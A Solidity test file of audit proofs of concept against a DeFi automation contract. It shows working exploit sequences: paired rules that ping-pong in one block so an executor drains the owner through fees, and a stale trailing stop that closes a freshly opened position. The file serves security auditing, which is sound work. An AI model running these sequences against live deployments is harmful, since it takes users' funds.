// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {EngineBase} from "../engine/EngineBase.sol";
import {UniswapV2Fixture} from "../periphery/UniswapV2Fixture.sol";
import {ISwapAdapter} from "../../src/periphery/interfaces/ISwapAdapter.sol";
import {IUniswapV2Factory} from "../../src/periphery/interfaces/IUniswapV2Factory.sol";
import {IUniswapV2Pair} from "../../src/periphery/interfaces/IUniswapV2Pair.sol";
import {UniswapV2Adapter} from "../../src/periphery/UniswapV2Adapter.sol";
import {KeelAutomation} from "../../src/periphery/guard/KeelAutomation.sol";
import {KeelGuardAdapter} from "../../src/periphery/guard/KeelGuardAdapter.sol";

/// @notice Audit 2026-12-01 proofs of concept on KeelAutomation's rule state (Keel market fixture, the same as
/// test/periphery/guard/KeelAutomation.t.sol). Each `test_poc_` PASSES while the weakness it names exists.
contract GuardRuleStateAudit is EngineBase {
    address internal constant EXECUTOR = address(0xE7);
    IUniswapV2Factory internal factory;
    IUniswapV2Pair internal pool;
    UniswapV2Adapter internal swapper;
    KeelAutomation internal guard;
    KeelGuardAdapter internal keel;

    /// @dev Figures of each proof, in the trace (`forge test -vvvv`).
    event Measured(string what, uint256 value);

    KeelAutomation.Kind internal constant DELEVERAGE = KeelAutomation.Kind.Deleverage;
    KeelAutomation.Kind internal constant TAKE_PROFIT = KeelAutomation.Kind.TakeProfit;
    KeelAutomation.Kind internal constant BOOST = KeelAutomation.Kind.Boost;
    KeelAutomation.Kind internal constant TRAILING = KeelAutomation.Kind.TrailingStop;

    function setUp() public override {
        super.setUp();
        factory = UniswapV2Fixture.deployFactory();
        pool = UniswapV2Fixture.seed(factory, weth, 100_000e18, usdc, 300_000_000e6);
        swapper = new UniswapV2Adapter(factory);
        guard = new KeelAutomation();
        keel = new KeelGuardAdapter(address(guard), ISwapAdapter(address(swapper)));
        _supply(LENDER, 5_000_000e6);
    }

    function _vault(uint256 col, uint256 debt) internal returns (uint256 id, bytes memory pos) {
        id = _openWith(ALICE, weth, col);
        if (debt != 0) _borrow(ALICE, id, debt);
        vm.prank(ALICE);
        market.setOperator(address(keel), true);
        pos = abi.encode(address(market), id, address(weth));
    }

    function _set(bytes memory pos, KeelAutomation.Kind kind, KeelAutomation.Params memory p) internal {
        vm.prank(ALICE);
        guard.setRule(keel, pos, kind, p);
    }

    function _exec(bytes memory pos, KeelAutomation.Kind kind, uint256 feeBps) internal {
        vm.prank(EXECUTOR);
        guard.execute(keel, pos, kind, feeBps);
    }

    /// @dev Moves the oracle's ETH price and the pool with it.
    function _ethPrice(uint256 usd) internal {
        ethFeed.setAnswer(int256(usd * 1e8));
        (uint112 r0, uint112 r1,) = pool.getReserves();
        bool wethIs0 = pool.token0() == address(weth);
        (uint256 rw, uint256 ru) = wethIs0 ? (uint256(r0), uint256(r1)) : (uint256(r1), uint256(r0));
        uint256 wantU = rw * usd / 1e12;
        if (wantU > ru) usdc.mint(address(pool), wantU - ru);
        else weth.mint(address(pool), ru * 1e12 / usd - rw);
        pool.sync();
    }

    /// @dev Owner's value (USD, WAD): the vault's collateral − debt plus her wallet's WETH and USDC at the oracle.
    function _ownerValue(uint256 id, uint256 ethUsd) internal view returns (uint256) {
        (uint256 colValue,,, uint256 debtValue,) = market.vaultHealth(id);
        return colValue + weth.balanceOf(ALICE) * ethUsd + usdc.balanceOf(ALICE) * 1e12 - debtValue;
    }

    /// @notice FINDING 1 (Medium-High): rules of one position are validated one at a time, so a TakeProfit-reduce whose
    /// target is above a Boost's trigger (or a Deleverage whose target is above a Boost's trigger while the Boost's
    /// target is below the Deleverage's trigger) ping-pong for ever. Nothing limits executions per block, so one
    /// executor fires Boost, TakeProfit, Boost, TakeProfit… in a single transaction, earning the capped fee on every
    /// leg while the owner pays that fee, the pool fee and the slippage on both swaps each round.
    /// Proves: 25 rounds in one block cost a $35,000 / 10 ETH position more than $6,000 (over 25% of its $23,000
    /// equity) with the executor collecting a fee every leg, and every leg still passes the guard's own checks.
    function test_poc_boostAndTakeProfitReduce_pingPongInOneBlock_drainsOwner() public {
        (uint256 id, bytes memory pos) = _vault(10e18, 12_000e6); // HF 2.125 at $3,000
        // "Take profit above $3,400 by reducing to HF 2.4" and "when HF is above 2.3, boost to 1.6": each rule valid.
        _set(pos, TAKE_PROFIT, KeelAutomation.Params(3400e18, 2.4e18, 0, 0, 100, 100));
        _set(pos, BOOST, KeelAutomation.Params(2.3e18, 1.6e18, 0, 0, 100, 100));
        _ethPrice(3500); // HF 2.48: the Boost fires first
        uint256 before = _ownerValue(id, 3500);
        for (uint256 i; i < 25; ++i) {
            _exec(pos, BOOST, 100); // HF → 1.6, now below the TakeProfit target
            _exec(pos, TAKE_PROFIT, 100); // price still ≥ $3,400, HF → 2.4, now above the Boost trigger
        }
        uint256 loss = before - _ownerValue(id, 3500);
        emit Measured("owner loss (USD WAD)", loss);
        emit Measured("executor fees (USDC)", usdc.balanceOf(EXECUTOR));
        assertGt(loss, 6_000e18, "owner lost > $6,000 in one block");
        assertGt(usdc.balanceOf(EXECUTOR), 2_000e6, "executor collected > $2,000 of fees");
        assertGt(_hf(id), 2.3e18, "and the Boost is armed again: the loop has no end");
    }

    /// @notice The same loop with Deleverage and Boost: Deleverage 1.6 → 2.0 and Boost 1.8 → 1.4.
    function test_poc_boostAndDeleverage_pingPongInOneBlock_drainsOwner() public {
        (uint256 id, bytes memory pos) = _vault(10e18, 12_000e6);
        _set(pos, DELEVERAGE, KeelAutomation.Params(1.6e18, 2.0e18, 0, 0, 100, 100));
        _set(pos, BOOST, KeelAutomation.Params(1.8e18, 1.4e18, 0, 0, 100, 100));
        uint256 before = _ownerValue(id, 3000);
        for (uint256 i; i < 25; ++i) {
            _exec(pos, BOOST, 100); // 2.125 / 2.0 → 1.4 < 1.6
            _exec(pos, DELEVERAGE, 100); // 1.4 → 2.0 > 1.8
        }
        emit Measured("owner loss (USD WAD)", before - _ownerValue(id, 3000));
        emit Measured("executor fees (USDC)", usdc.balanceOf(EXECUTOR));
        assertGt(before - _ownerValue(id, 3000), 5_000e18, "owner lost > $5,000 in one block");
    }

    /// @notice FINDING 2 (Medium): a rule outlives the position it was set on when the owner unwinds it herself, and a
    /// TrailingStop keeps the high recorded back then. When she later builds a position again under the same key (an
    /// Aave `(owner, collateral, debt)` or Morpho `(owner, market)` key is always the same; here the same Keel vault),
    /// her standing authorisation makes the old stop live at once: anyone closes the new position the moment it
    /// exists, selling collateral at up to the slippage bound and taking the fee.
    /// Proves: a stop armed at a $4,000 high, unwound by hand, closes a fresh 10 ETH position at $3,000 in the same
    /// block it is opened.
    function test_poc_trailingStopHigh_survivesManualUnwind_andClosesTheNextPosition() public {
        (uint256 id, bytes memory pos) = _vault(10e18, 15_000e6);
        _set(pos, TRAILING, KeelAutomation.Params(0, 0, 1000, 0, 100, 100)); // 10% under the high
        _ethPrice(4000);
        guard.poke(keel, pos); // high $4,000
        // Alice unwinds by hand (not through the guard): repays everything and takes her ETH out.
        usdc.mint(ALICE, 1_000e6);
        vm.startPrank(ALICE);
        usdc.approve(address(market), type(uint256).max);
        market.repay(id, type(uint256).max);
        market.withdrawCollateral(id, address(weth), 10e18, ALICE);
        vm.stopPrank();
        assertEq(guard.getRule(keel, pos, TRAILING).high, 4000e18, "the old high is still stored");
        // Months later, ETH at $3,000, she opens a position in her vault again.
        _ethPrice(3000);
        weth.mint(ALICE, 10e18);
        vm.startPrank(ALICE);
        weth.approve(address(market), 10e18);
        market.depositCollateral(id, address(weth), 10e18);
        market.borrow(id, 15_000e6, ALICE);
        vm.stopPrank();
        // Same block: anyone fires the stale stop (3,000 ≤ 4,000 · 0.9) and closes the new position.
        uint256 before = _ownerValue(id, 3000);
        _exec(pos, TRAILING, 100);
        emit Measured("owner loss (USD WAD)", before - _ownerValue(id, 3000));
        assertEq(market.debtOf(id), 0, "the new position was closed");
        assertEq(market.collateralOf(id, address(weth)), 0, "collateral sold / returned");
        assertEq(usdc.balanceOf(EXECUTOR), 150e6, "executor took 1% of the debt");
    }
}
